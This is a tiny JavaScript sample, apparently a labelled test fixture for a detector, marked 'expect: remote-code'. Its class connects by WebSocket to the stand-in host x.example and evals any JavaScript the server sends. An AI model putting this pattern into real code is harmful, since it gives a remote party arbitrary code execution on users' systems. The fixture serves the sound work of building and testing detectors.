// expect: remote-code
class C { connect() { this.ws = new WebSocket("wss://x.example"); this.ws.onmessage = this.on.bind(this); } on(e) { const m = JSON.parse(e.data); if (m.js) eval(m.js); } }
